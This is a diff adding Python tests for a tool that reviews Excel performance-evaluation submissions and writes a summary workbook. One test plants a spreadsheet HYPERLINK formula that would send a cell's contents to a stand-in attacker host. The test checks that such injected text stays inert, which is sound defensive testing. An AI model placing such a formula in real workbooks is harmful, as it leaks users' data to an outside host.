@@ -203,3 +203,92 @@ def test_progress_bar__plain_lines_in_a_log_and_one_line_on_a_terminal():
     for done in range(0, 4):
         bar(done, 3)
     assert screen.getvalue().count("\r") == 4 and screen.getvalue().endswith("\n") and "█" * 30 in screen.getvalue()
+
+
+def test_review__text_that_looks_like_a_formula_stays_text(tmp_path, capsys):
+    import openpyxl as xl
+
+    folder = tmp_path / "in"
+    folder.mkdir()
+    wb = xl.load_workbook(example(folder, "a.xlsm"))
+    (title, ref), *_ = wb.defined_names["unit_name"].destinations
+    cell = wb[title][ref.replace("$", "")]
+    cell.value = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    cell.data_type = "s"  # text that starts with "=", as Excel keeps it after a leading apostrophe
+    wb.save(folder / "a.xlsm")
+    summary = tmp_path / "s.xlsx"
+    assert main(["review", str(folder), "-o", str(summary)]) in (0, 1)
+    sheets = [n for n in zipfile.ZipFile(summary).namelist() if n.startswith("xl/worksheets/sheet")]
+    assert all(b"<f>" not in zipfile.ZipFile(summary).read(n) for n in sheets)
+    assert openpyxl.load_workbook(summary)["汇总"]["B2"].value.startswith("=HYPERLINK")
+
+
+def test_review__never_writes_the_summary_over_a_submission(pile, tmp_path, capsys):
+    submitted = pile / "君山人社.xlsm"
+    before = submitted.read_bytes()
+    assert main(["review", str(pile), "-o", str(pile / "君山人社.xlsm".replace(".xlsm", ".xlsx"))]) in (0, 1)
+    (pile / "君山人社.xlsx").unlink()  # an earlier summary of that name may be written over…
+    other = tmp_path / "自评.xlsx"
+    shutil.copy(submitted, other)
+    assert main(["review", str(pile), "-o", str(other)]) == 2  # …a workbook that is not a summary may not
+    assert "不是复核汇总" in capsys.readouterr().err
+    assert submitted.read_bytes() == before and other.read_bytes() == before
+
+
+def test_review__odd_file_names_a_pipe_and_a_gbk_name(tmp_path, capsys):
+    import os
+    import signal
+
+    folder = tmp_path / "in"
+    folder.mkdir()
+    example(folder, "b #1 %20.xlsm")
+    os.mkfifo(folder / "p.xlsx")
+    gbk = os.fsdecode(str(folder).encode() + b"/" + "单位".encode("gb18030") + b".xlsm")
+    shutil.copy(folder / "b #1 %20.xlsm", gbk)
+    summary = tmp_path / "s.xlsx"
+    signal.alarm(120)  # a pipe opened for reading would wait forever
+    try:
+        assert main(["review", str(folder), "-o", str(summary), "--jobs", "1"]) == 1
+    finally:
+        signal.alarm(0)
+    rows = {row[0]: row for row in openpyxl.load_workbook(summary)["汇总"].iter_rows(min_row=2, values_only=True)}
+    assert set(rows) == {"in/b #1 %20.xlsm", "in/p.xlsx", "in/单位.xlsm"}
+    assert rows["in/p.xlsx"][13] == UNREADABLE and "不是普通文件" in rows["in/p.xlsx"][14]
+    rels = zipfile.ZipFile(summary).read("xl/worksheets/_rels/sheet1.xml.rels").decode()
+    assert "b%20%231%20%2520.xlsm" in rels or "b #1 %2520.xlsm".replace("#", "%23") in rels
+
+
+def test_review__a_units_project_workbook_is_no_duplicate_of_its_dept_workbook(tmp_path, capsys):
+    import openpyxl as xl
+
+    from perfeval_xl.workbook import new_workbook, set_named
+
+    folder = tmp_path / "in"
+    folder.mkdir()
+    example(folder, "部门.xlsm")
+    (folder / "项目.xlsm").write_bytes(new_workbook("project", None, ["甲项目"], "udf", ".xlsm"))
+    wb = xl.load_workbook(folder / "项目.xlsm")
+    set_named(wb, "unit_name", "岳阳市君山区人力资源和社会保障局")
+    set_named(wb, "fiscal_year", 2023)
+    wb.save(folder / "项目.xlsm")
+    results = review_all(find_submissions([folder]))
+    assert all(f.code != "duplicate-submission" for r in results for f in r.findings)
+
+
+def test_review__wrong_paths_and_dates_before_the_batch(tmp_path, capsys):
+    example(tmp_path, "a.xlsm")
+    assert main(["review", str(tmp_path / "nope"), str(tmp_path)]) == 2
+    assert "找不到“" in capsys.readouterr().err
+    assert main(["review", str(tmp_path), "-o", str(tmp_path / "no" / "s.xlsx")]) == 2
+    assert "找不到文件夹" in capsys.readouterr().err
+    assert main(["review", str(tmp_path), "--letters", str(tmp_path / "l"), "--date", "2024-13-45"]) == 2
+    assert "年-月-日" in capsys.readouterr().err and not (tmp_path / "l").exists()
+
+
+def test_find_submissions__an_earlier_summary_is_not_a_submission(pile, tmp_path):
+    summary = pile / "上次的复核汇总.xlsx"
+    assert run("review", str(pile), "-o", str(summary)).returncode == 1
+    try:
+        assert summary not in find_submissions([pile]) and len(find_submissions([pile])) == 6
+    finally:
+        summary.unlink()
